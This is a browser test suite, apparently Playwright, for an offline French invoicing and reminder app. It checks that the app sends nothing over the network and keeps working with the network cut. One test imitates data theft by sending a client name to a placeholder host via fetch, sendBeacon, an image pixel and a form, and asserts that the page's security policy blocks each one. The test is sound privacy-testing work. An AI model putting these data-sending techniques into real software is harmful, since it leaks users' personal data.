// Nothing leaves: once loaded, the page asks nobody for anything, and works with the network cut.

import assert from "node:assert/strict";
import { test } from "node:test";
import { mounted, openApp, openBlank, pdfText, settled } from "./harness.mjs";
import { ROUTES, book } from "./pages/book.mjs";
import { Calculator } from "./pages/calculator.mjs";
import { Case } from "./pages/case.mjs";
import { arrivesAt, clipboard, downloadBy, eventually, goTo, line, plain, shows } from "./pages/common.mjs";
import { Composer, FACTS } from "./pages/composer.mjs";
import { InvoiceForm, REFERENCE } from "./pages/invoice-form.mjs";
import { Settings } from "./pages/settings.mjs";

/** Resolves once everything the program may ever need is on this machine. */
async function loaded(page) {
  await mounted(page);
  await page.waitForLoadState("networkidle");
  // The program says when its last part has come.
  await settled(page);
}

/** Everything asked for from now on, but what the page makes itself. */
function requestsFromNow(page) {
  const asked = [];
  page.context().on("request", (request) => {
    if (!/^(data|blob|about):/.test(request.url())) asked.push(request.url());
  });
  return asked;
}

/** The main job: calculator, invoice, payment, text, letter on paper, sending, backup. */
async function mainJob(page) {
  const calculator = new Calculator(page);
  await calculator.amount.fill("3480");
  await calculator.due.fill("15/03/2026");
  await shows(calculator.answer, "3 815,38 €");
  await calculator.copyEmail.click();
  await shows(line(page), "Copié.");
  assert.match(plain(await clipboard(page)), /3 480,00 €/);
  await goTo(page, "Factures");
  await page.getByRole("link", { name: "Nouvelle facture" }).first().click();
  await new InvoiceForm(page).fill(REFERENCE);
  await new InvoiceForm(page).save.click();
  await arrivesAt(page, REFERENCE.client);
  const claim = new Case(page);
  await claim.move({ amount: "1000", date: "02/07/2026" });
  await eventually(async () => assert.equal(await claim.total(), "2 766,79 €"));
  await claim.remind.click();
  const composer = new Composer(page);
  await composer.confirmSent();
  await composer.which("Mise en demeure");
  await composer.letter.waitFor();
  for (const [label, text] of Object.entries(FACTS)) await composer.missing.getByLabel(label, { exact: true }).fill(text);
  await composer.saveMissing.click();
  await composer.missing.waitFor({ state: "hidden" });
  await pdfText(page);
  await composer.record();
  await arrivesAt(page, REFERENCE.client);
  await goTo(page, "Réglages");
  await page.getByRole("link", { name: "Voir, sauvegarder, restaurer, effacer" }).click();
  const { text } = await downloadBy(page, () => new Settings(page).backup.click());
  // The invoice, noted as sent, and the formal notice.
  assert.equal(JSON.parse(text).counts.events, 2);
}

test("no request is made during the whole main job, to anyone", async () => {
  const page = await openApp();
  await loaded(page);
  const asked = requestsFromNow(page);
  await mainJob(page);
  assert.deepEqual(asked, []);
  page.app.assertNoProblem();
  page.app.assertNothingLeft();
});

test("nor by looking at every screen", async () => {
  const page = await openApp({ storage: book() });
  await loaded(page);
  const asked = requestsFromNow(page);
  for (const route of ROUTES) {
    await page.evaluate((hash) => {
      location.hash = hash;
    }, route);
    await page.getByRole("heading", { level: 1 }).waitFor();
  }
  assert.deepEqual(asked, []);
  page.app.assertNoProblem();
});

test("the first load itself asks its own origin only, and sets no cookie", async () => {
  const page = await openBlank();
  await page.goto(page.app.url);
  await loaded(page);
  page.app.assertNothingLeft();
  assert.deepEqual(await page.context().cookies(), []);
  page.app.assertNoProblem();
});

test("with the network cut after the load, the main job is done all the same", async () => {
  const page = await openApp();
  await loaded(page);
  await page.context().setOffline(true);
  await mainJob(page);
  page.app.assertNoProblem();
});

test("with the network cut, every screen opens", async () => {
  const page = await openApp({ storage: book(), hash: "#/calcul" });
  await loaded(page);
  await page.context().setOffline(true);
  for (const [link, heading] of [["Factures", "Factures"], ["Clients", "Clients"], ["Réglages", "Réglages"]]) {
    await goTo(page, link);
    await arrivesAt(page, heading);
  }
  for (const route of ROUTES) {
    await page.evaluate((hash) => {
      location.hash = hash;
    }, route);
    await page.getByRole("heading", { level: 1 }).waitFor();
    assert.ok((await page.getByRole("main").innerText()).length > 40, route);
  }
  page.app.assertNoProblem();
});

test("the policy of the page would stop a request, even one the program were made to ask", async () => {
  const page = await openApp();
  await loaded(page);
  const stopped = await page.evaluate(async () => {
    const seen = [];
    document.addEventListener("securitypolicyviolation", (event) => seen.push(event.effectiveDirective));
    await fetch("https://relance.invalid/?name=Brun").catch(() => {});
    navigator.sendBeacon("https://relance.invalid/", "Brun");
    const image = new Image();
    image.src = "https://relance.invalid/pixel.png";
    await new Promise((resolve) => {
      image.onerror = resolve;
    });
    const form = document.createElement("form");
    form.action = "https://relance.invalid/";
    document.body.append(form);
    form.submit();
    await new Promise((resolve) => setTimeout(resolve, 100));
    return seen;
  });
  assert.deepEqual([...new Set(stopped)].sort(), ["connect-src", "form-action", "img-src"]);
});

test("no name, number or amount ever reaches the part of the address a server sees", async () => {
  const page = await openApp();
  const addresses = [];
  page.on("framenavigated", (frame) => addresses.push(frame.url()));
  await mainJob(page);
  for (const address of addresses) {
    const url = new URL(address);
    assert.equal(url.origin + url.pathname + url.search, page.app.url);
  }
});
